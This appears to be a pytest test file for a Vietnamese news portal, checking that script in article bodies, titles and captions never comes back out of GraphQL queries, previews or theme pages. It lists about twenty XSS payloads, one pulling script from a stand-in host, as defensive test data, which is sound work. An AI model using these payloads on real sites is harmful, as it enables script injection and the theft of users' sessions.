"""Script in article bodies never comes back out: not from a query, a block or region
fragment, a preview, nor the theme's page."""

from __future__ import annotations

import json
import re

import pytest
from bs4 import BeautifulSoup
from editing import CREATE_ARTICLE, PUBLISH_ARTICLE, UPDATE_ARTICLE, ok

MARK = "alert("
VECTORS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss')>",
    '<img src="x" onerror="alert(\'xss\')"/>',
    "<a href=\"javascript:alert('xss')\">bấm vào đây</a>",
    "<a href=\"JaVaScRiPt:alert('xss')\">hoa thường</a>",
    "<a href=\"&#106;avascript:alert('xss')\">thực thể</a>",
    "<a href=\" javascript:alert('xss')\">khoảng trắng</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dữ liệu</a>',
    "<svg onload=alert('xss')><circle r=5 /></svg>",
    "<svg><script>alert('xss')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss')\"><text>svg</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<object data=\"data:text/html,<script>alert('xss')</script>\"></object>",
    "<p style=\"background:url(javascript:alert('xss'))\" onclick=\"alert('xss')\">kiểu</p>",
    "<form action=\"javascript:alert('xss')\"><button>gửi</button></form>",
    "\"><script>alert('xss')</script>",
    "<body onload=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
]
BODY = "<p>Nội dung an toàn.</p>" + "".join(f"<p>{v}</p>" for v in VECTORS)
ARTICLE_QUERY = """query($slug: String!) { article(slug: $slug) {
  title lead bodyHtml paragraphs } }"""
PAGE_QUERY = """query($path: String!, $preview: Boolean! = false) {
  page(path: $path, preview: $preview) { regions { html blocks { html
    ... on Block_BanTin_ViewData { bodyHtml paragraphs article { bodyHtml paragraphs } } } } } }"""
OWN_ICON = "pb-icon"  # the toolbar's own print icon is the only SVG a page may hold
OWN_SCRIPTS = "/_blocks/static/"  # the blocks' own assets are the only scripts a page may load


def is_own_script(tag) -> bool:
    return (
        tag.name == "script"
        and str(tag.get("src", "")).startswith(OWN_SCRIPTS)
        and (not tag.string or not tag.string.strip())
    )


def assert_inert(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        if is_own_script(tag):
            continue
        assert tag.name not in {"script", "iframe", "object", "embed", "form", "style", "math"}, tag
        if tag.name == "svg":
            assert OWN_ICON in tag.get("class", []), tag
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), tag
            text = " ".join(value) if isinstance(value, list) else str(value)
            squeezed = "".join(text.split()).lower()
            assert not squeezed.startswith(("javascript:", "data:", "vbscript:")), tag
            assert name != "style", tag


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


@pytest.fixture
def hostile_article(as_editor) -> dict:
    created = ok(
        as_editor(
            CREATE_ARTICLE,
            {"input": {"title": "Bản tin thử nghiệm", "lead": "Sapo", "bodyHtml": BODY}},
        )
    )["article"]
    assert_inert(created["bodyHtml"])
    assert MARK not in created["bodyHtml"]
    published = ok(as_editor(PUBLISH_ARTICLE, {"slug": created["slug"], "version": 1}))
    return published["article"]


def test_sanitising_keeps_the_safe_text(hostile_article):
    assert hostile_article["bodyHtml"].startswith("<p>Nội dung an toàn.</p>")
    assert "bấm vào đây" in hostile_article["bodyHtml"]


def test_no_query_returns_script(hostile_article, graphql, as_editor):
    slug = hostile_article["slug"]
    results = [
        graphql(ARTICLE_QUERY, {"slug": slug}),
        graphql(PAGE_QUERY, {"path": f"/tin-tuc/{slug}"}),
        graphql(PAGE_QUERY, {"path": f"/Pages/{slug}.aspx"}),
        as_editor(PAGE_QUERY, {"path": f"/tin-tuc/{slug}", "preview": True}),
        as_editor("query($s: String!) { draftArticle(slug: $s) { bodyHtml } }", {"s": slug}),
        as_editor("query($s: String!) { articleHistory(slug: $s) { after } }", {"s": slug}),
    ]
    for result in results:
        assert "errors" not in result, result
        assert MARK not in json.dumps(result, ensure_ascii=False)
        for text in _strings(result["data"]):
            assert_inert(text)


def test_updates_are_sanitised_too(hostile_article, as_editor, graphql):
    ok(
        as_editor(
            UPDATE_ARTICLE,
            {
                "slug": hostile_article["slug"],
                "version": 2,
                "input": {"bodyHtml": "<p>Mới</p>" + "".join(VECTORS)},
            },
        )
    )
    result = graphql(PAGE_QUERY, {"path": f"/tin-tuc/{hostile_article['slug']}"})
    assert MARK not in json.dumps(result, ensure_ascii=False)
    for text in _strings(result["data"]):
        assert_inert(text)


def test_theme_page_holds_no_script(hostile_article, client):
    for path in (f"/tin-tuc/{hostile_article['slug']}", f"/Pages/{hostile_article['slug']}.aspx"):
        response = client.get(path)
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        assert MARK not in html
        assert_inert(html)
        assert "Nội dung an toàn." in html


def test_text_fields_are_escaped_in_fragments(as_editor, graphql, client):
    """Titles, leads and authors are text: shown as typed, never parsed as markup."""
    hostile = "<script>alert('t')</script><img src=x onerror=alert('t')>"
    created = ok(
        as_editor(
            CREATE_ARTICLE,
            {
                "input": {
                    "title": f"Tiêu đề {hostile}",
                    "lead": hostile,
                    "author": hostile,
                    "imageUrl": "/anh.jpg",
                    "imageCaption": hostile,
                }
            },
        )
    )["article"]
    ok(as_editor(PUBLISH_ARTICLE, {"slug": created["slug"], "version": 1}))
    page = graphql(PAGE_QUERY, {"path": f"/tin-tuc/{created['slug']}"})
    fragments = [r["html"] for r in page["data"]["page"]["regions"]]
    fragments += [b["html"] for r in page["data"]["page"]["regions"] for b in r["blocks"]]
    fragments.append(client.get(f"/tin-tuc/{created['slug']}").get_data(as_text=True))
    for html in fragments:
        assert_inert(html)
        assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in fragments[-1]  # shown to the reader as the text it is


def test_the_check_itself_catches_script():
    """``assert_inert`` must fail on what it is meant to catch, or the tests above prove nothing."""
    for bad in (
        "<script>x</script>",
        '<script src="/_blocks/static/toolbar.js">alert(1)</script>',
        '<script src="https://elsewhere.example/x.js"></script>',
        "<img onerror=x>",
        '<a href=" JavaScript:x">a</a>',
        "<svg><circle/></svg>",
        '<p style="x">a</p>',
    ):
        with pytest.raises(AssertionError):
            assert_inert(bad)


def test_readme_documents_exactly_the_allowed_tags():
    from conftest import REPO

    from portal_blocks.text.html import ALLOWED_TAGS

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    kept = readme.split("Kept tags:", 1)[1].split("Kept attributes:", 1)[0]
    assert set(re.findall(r"`([a-z0-9]+)`", kept)) == ALLOWED_TAGS
